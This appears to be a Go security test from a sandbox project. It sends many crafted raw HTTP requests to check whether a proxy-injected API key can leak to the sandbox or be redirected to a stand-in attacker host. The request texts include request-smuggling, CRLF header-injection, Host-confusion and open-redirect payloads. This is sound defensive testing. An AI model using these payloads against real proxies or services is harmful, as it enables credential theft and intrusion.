package network

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"sync"

	"sandpool/scripts/outside"
)

// Keyed is a name that the sandboxes' requests are sent with a secret to, and KeyHeader the header that has it.
const (
	Keyed     = "keyed.example.com"
	KeyHeader = "X-Api-Key"
)

// mine is a name that the attacker may reach, and where it would read what comes.
const mine = "mine.rebound.example.com"

// Key is what the secret is made of.
var Key = "key-" + strings.ToLower(rand.Text())

// SecretTexts are what a client may say to have a secret for requests to one name told to it, or sent to another name: one for each connection.
func SecretTexts(keyed, mine string) []string {
	toMine := "GET /second HTTP/1.1\r\nHost: " + mine + "\r\n\r\n"
	var texts []string
	for _, target := range []string{
		"/", "//" + mine + "/", "http://" + mine + "/", "http://" + keyed + "/", "http://" + keyed + "@" + mine + "/", "http://" + mine + "@" + keyed + "/", "http://" + keyed + ":80@" + mine + "/",
		"http://" + keyed + "\\@" + mine + "/", "http://" + keyed + "#@" + mine + "/", "http://" + keyed + "?@" + mine + "/", "http://" + keyed + "%2f@" + mine + "/", "http://" + keyed + ":443/",
		"https://" + keyed + "/", "https://" + mine + "/", "HTTP://" + strings.ToUpper(keyed) + "/", "http:" + keyed + "/", "http:///" + keyed + "/", "*", "",
		"/a%0d%0a" + KeyHeader + ":%20mine", "/a%0d%0aHost:%20" + mine, "/a\r" + KeyHeader + ": mine", "/a\x00b", "/a?b#c", "/../../" + mine, "/redirect?to=http://" + mine + "/",
		"/redirect?to=https://" + mine + "/", "/redirect?to=//" + mine + "/", "/redirect?to=https://" + keyed + "@" + mine + "/", "/redirect?to=https://" + keyed + ":8443/",
	} {
		for _, host := range []string{keyed, mine} {
			texts = append(texts, "GET "+target+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
		}
		texts = append(texts, "GET "+target+" HTTP/1.0\r\n\r\n")
	}
	for _, host := range []string{
		keyed + ".", strings.ToUpper(keyed), keyed + ":80", keyed + ":443", keyed + ":0x50", keyed + ":80:80", keyed + ", " + mine, keyed + "/", keyed + "#" + mine, keyed + "?" + mine, keyed + "%00." + mine,
		keyed + "@" + mine, mine + "." + keyed, keyed + "." + mine, "[" + keyed + "]", "", " ", keyed + "\r\nHost: " + mine, mine + "\r\nHost: " + keyed, keyed + "\r\n " + mine, "\t" + keyed,
	} {
		texts = append(texts, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
	}
	for _, method := range []string{"TRACE", "TRACK", "DEBUG", "OPTIONS", "HEAD", "CONNECT", "get", "G\tET", "GET\r\nX:", "PRI", "trace", "PURGE", "MOVE"} {
		texts = append(texts, method+" / HTTP/1.1\r\nHost: "+keyed+"\r\nMax-Forwards: 0\r\nDestination: http://"+mine+"/\r\n\r\n")
	}
	for _, header := range []string{
		KeyHeader + ": mine", KeyHeader + ": mine\r\n" + KeyHeader + ": mine too", KeyHeader + ":", KeyHeader + " : mine", KeyHeader + "\t: mine", "X_Api_Key: mine", "x-api_key: mine", "X-Api-Key\x00: mine",
		"Connection: " + KeyHeader, "Connection: close, x-api-key", "connection: keep-alive\r\nConnection: X_Api_Key", "Proxy-Connection: " + KeyHeader, "Keep-Alive: " + KeyHeader, "TE: trailers, " + KeyHeader,
		"Trailer: " + KeyHeader, "Vary: " + KeyHeader, "Connection: Host\r\nX-Forwarded-Host: " + mine, "X-Other: a\r\n " + KeyHeader + ": mine", "X-Other: a\n" + KeyHeader + ": mine", "X-Other: a\r" + KeyHeader + ": mine",
		"X-Other: a\x00" + KeyHeader + ": mine", "Upgrade: websocket\r\nConnection: Upgrade", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk", "Upgrade: TLS/1.2", "Connection: Upgrade",
		"Upgrade: \r\nConnection: Upgrade", "uPGRADE: echo", "Expect: 100-continue", "Expect: " + KeyHeader, "Range: bytes=0-", "Proxy-Authorization: Basic bWluZTptaW5l", "Forwarded: host=" + mine + ";proto=http",
		"X-HTTP-Method-Override: TRACE", "Content-Length: -1", "Content-Length: 99999999999999999999", "Transfer-Encoding: identity", "Transfer-Encoding: gzip, chunked", "X-Long: " + strings.Repeat("a", 70<<10),
	} {
		texts = append(texts, "GET / HTTP/1.1\r\nHost: "+keyed+"\r\n"+header+"\r\n\r\n", "GET / HTTP/1.0\r\nHost: "+keyed+"\r\n"+header+"\r\n\r\n")
	}
	for _, rest := range []string{
		"Content-Length: 3\r\nContent-Length: 200\r\n\r\n123", "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n",
		"Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n", "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
		"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n0\r\n" + KeyHeader + ": mine\r\n\r\n", "Transfer-Encoding: chunked\r\nTrailer: " + KeyHeader + ", Host\r\n\r\n1\r\na\r\n0\r\n" + KeyHeader + ": mine\r\nHost: " + mine + "\r\n\r\n",
		"Transfer-Encoding: chunked\r\n\r\n1;a=\"\r\n" + KeyHeader + "\"\r\na\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\na\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n1\na\n0\n\n",
		"Transfer-Encoding: chunked\r\n\r\n0x1\r\na\r\n0\r\n\r\n", "Transfer-Encoding: \x0bchunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n", "Content-Length: 0\r\n\r\n", "Content-Length: 0\r\nConnection: close\r\n\r\n", "Content-Length: +3\r\n\r\n123",
		"Expect: 100-continue\r\nContent-Length: 3\r\n\r\n", "\r\n",
	} {
		texts = append(texts, "POST / HTTP/1.1\r\nHost: "+keyed+"\r\n"+rest+toMine, "POST http://"+keyed+"/ HTTP/1.1\r\nHost: "+keyed+"\r\n"+rest+toMine)
	}
	return append(texts,
		"GET /\r\n", "GET /\n\n", "\r\n\r\nGET / HTTP/1.1\r\nHost: "+mine+"\r\n\r\n", "GET / HTTP/1.1\nHost: "+keyed+"\n\n", "GET / HTTP/2.0\r\nHost: "+keyed+"\r\n\r\n", "GET / HTTP/1.1 HTTP/1.0\r\nHost: "+keyed+"\r\n\r\n",
		"GET  / HTTP/1.1\r\nHost: "+keyed+"\r\n\r\n", " GET / HTTP/1.1\r\nHost: "+keyed+"\r\n\r\n", "GET / HTTP/1.1\r\n Host: "+mine+"\r\nHost: "+keyed+"\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00", "\x05\x01\x00", "GET / HTTP/1.1\r\nHost: "+keyed+"\r\n\r\nGET / HTTP/1.1\r\nHost: "+mine+"\r\n\r\n"+toMine,
	)
}

// keyWatch looks at requests that come to servers.
type keyWatch struct {
	mu    sync.Mutex
	good  int
	wrong []string
}

// see notes a request with the key that is not for its name, and one for that which has not exactly the key.
func (k *keyWatch) see(r *http.Request) {
	host, _, _ := strings.Cut(r.Host, ":")
	text := fmt.Sprintf("%s %s %s %q %q", r.Method, r.Host, r.RequestURI, r.Header, r.Trailer)
	right := r.TLS != nil && r.TLS.ServerName == Keyed && host == Keyed
	for name, values := range r.Header {
		if strings.EqualFold(strings.ReplaceAll(name, "_", "-"), KeyHeader) && (name != KeyHeader || len(values) != 1 || values[0] != Key) {
			right = false
		}
	}
	k.mu.Lock()
	defer k.mu.Unlock()
	switch {
	case right && r.Header.Get(KeyHeader) == Key && len(r.Trailer) == 0:
		k.good++
	case host == Keyed, strings.Contains(text, Key):
		k.wrong = append(k.wrong, text)
	}
}

// keys has a sandbox try to be told the secret that its requests are sent with, or to send it elsewhere.
func keys(ctx context.Context, g *Ground) error {
	server := []netip.Addr{netip.MustParseAddr("203.0.113.20")}
	for _, name := range []string{Keyed, mine} {
		g.World.Names.Set(name, outside.Record{Addresses: server})
	}
	var watch keyWatch
	g.World.Watch(watch.see)
	defer g.World.Watch(nil)
	err := g.came(func() error {
		for _, to := range []string{"", Keyed + ":80", "connect:" + Keyed + ":80", "connect:" + Keyed + ":443", "connect:" + mine + ":80"} {
			if err := g.sayAll(ctx, to, SecretTexts(Keyed, mine)); err != nil {
				return err
			}
		}
		return nil
	})
	watch.mu.Lock()
	defer watch.mu.Unlock()
	for _, what := range watch.wrong {
		g.Through("a request came as %.300s", what)
	}
	if watch.good == 0 {
		err = errors.Join(err, errors.New("the attack was not made: no request came with the secret"))
	}
	return err
}

// sayAll says texts, each by a connection of its own, and looks for the key in what comes back.
func (g *Ground) sayAll(ctx context.Context, to string, texts []string) error {
	const most = 30 << 10 // of what is said by one command, but for the last of it
	for len(texts) > 0 {
		var args strings.Builder
		for ; len(texts) > 0 && args.Len() < most; texts = texts[1:] {
			fmt.Fprintf(&args, " '%q'", texts[0])
			g.Tried()
		}
		out, err := g.Guest(ctx, "guest say '"+to+"'"+args.String())
		if err != nil {
			return err
		}
		if strings.Contains(out, Key) {
			g.Through("the sandbox was told the key: %.300q", out)
		}
		if !strings.Contains(out, "said all") {
			return fmt.Errorf("the attack was not made: %.300q", out)
		}
	}
	return nil
}
